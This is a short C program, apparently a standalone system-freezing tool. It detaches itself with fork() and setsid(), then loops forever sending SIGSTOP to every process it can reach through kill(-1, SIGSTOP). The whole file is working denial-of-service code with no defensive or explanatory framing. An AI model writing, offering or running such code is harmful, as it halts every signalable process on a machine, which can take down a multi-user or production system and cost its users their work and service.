/* Stops all that it may, for ever. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    if (fork() > 0)
        _exit(0);
    setsid();
    for (;;)
        kill(-1, SIGSTOP);
}
